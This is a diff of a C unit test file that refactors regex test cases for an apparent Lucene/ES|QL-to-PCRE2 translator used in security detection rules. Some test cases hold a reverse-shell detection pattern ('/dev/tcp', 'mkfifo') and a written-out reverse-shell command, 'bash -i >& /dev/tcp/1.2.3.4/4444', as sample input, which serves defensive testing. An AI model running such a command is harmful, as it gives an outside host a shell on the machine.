@@ -1282,21 +1282,15 @@ static void test_esql_now_before_stats(void **state)
 /* Inside a Lucene bracket expression a backslash makes the next character literal (RegExp's
  * parseCharExp), ']' and '\\' too; a '"' there is itself. Elastic's "Exchange inbox rule with an
  * obfuscated name" matches names of punctuation with [!@#$%^&*()_+={[\]|\\:;"'<,>.?/~` \-]+. */
-static void test_lucene_bracket_escapes(void **state)
+/* A pattern compiled as Lucene reads it, matched against the whole value. */
+struct regex_case {
+	const char *pat, *value;
+	int hit;
+};
+
+static void check_lucene_regex_cases(const struct regex_case *cases, size_t n)
 {
-	(void)state;
-	static const struct {
-		const char *pat, *value;
-		int hit;
-	} cases[] = {
-	    {"[!@#$%^&*()_+={[\\]|\\\\:;\"'<,>.?/~` \\-]+", "!]\\\"-", 1},
-	    {"[!@#$%^&*()_+={[\\]|\\\\:;\"'<,>.?/~` \\-]+", "rule1", 0},
-	    {"[\\]]", "]", 1},
-	    {"[a\\-z]", "b", 0},
-	    {"[a\\-z]", "-", 1},
-	    {"[\\d]+", "42", 1},
-	};
-	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+	for (size_t i = 0; i < n; i++) {
 		const char *why;
 		pcre2_code *re = lucene_regex_compile(cases[i].pat, strlen(cases[i].pat), 0, &why);
 		if (!re)
@@ -1305,6 +1299,20 @@ static void test_lucene_bracket_escapes(void **state)
 			fail_msg("case %zu: %s on %s", i, cases[i].pat, cases[i].value);
 		pcre2_code_free(re);
 	}
+}
+
+static void test_lucene_bracket_escapes(void **state)
+{
+	(void)state;
+	static const struct regex_case cases[] = {
+	    {"[!@#$%^&*()_+={[\\]|\\\\:;\"'<,>.?/~` \\-]+", "!]\\\"-", 1},
+	    {"[!@#$%^&*()_+={[\\]|\\\\:;\"'<,>.?/~` \\-]+", "rule1", 0},
+	    {"[\\]]", "]", 1},
+	    {"[a\\-z]", "b", 0},
+	    {"[a\\-z]", "-", 1},
+	    {"[\\d]+", "42", 1},
+	};
+	check_lucene_regex_cases(cases, sizeof(cases) / sizeof(cases[0]));
 }
 
 /* '&' is Lucene's intersection: ES|QL's RLikePattern compiles with RegExp.ALL, which holds
@@ -1316,10 +1324,7 @@ static void test_lucene_bracket_escapes(void **state)
 static void test_lucene_regex_intersection(void **state)
 {
 	(void)state;
-	static const struct {
-		const char *pat, *value;
-		int hit;
-	} cases[] = {
+	static const struct regex_case cases[] = {
 	    {".*a.*&.*b.*", "xaxbx", 1}, /* both */
 	    {".*a.*&.*b.*", "xaxx", 0},  /* one */
 	    {"a.*&.*z|q", "abz", 1},     /* (a.*&.*z)|q */
@@ -1350,15 +1355,7 @@ static void test_lucene_regex_intersection(void **state)
 	    {".*(bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", 0},
 	    {".*(bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*", "mkfifo /tmp/f", 1},
 	};
-	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
-		const char *why;
-		pcre2_code *re = lucene_regex_compile(cases[i].pat, strlen(cases[i].pat), 0, &why);
-		if (!re)
-			fail_msg("case %zu: %s", i, why);
-		if (regex_match_whole(re, cases[i].value, strlen(cases[i].value)) != cases[i].hit)
-			fail_msg("case %zu: %s on %s", i, cases[i].pat, cases[i].value);
-		pcre2_code_free(re);
-	}
+	check_lucene_regex_cases(cases, sizeof(cases) / sizeof(cases[0]));
 	const char *why;
 	assert_null(lucene_regex_compile("a&", 2, 0, &why));
 	assert_string_equal(why, "invalid regular expression");
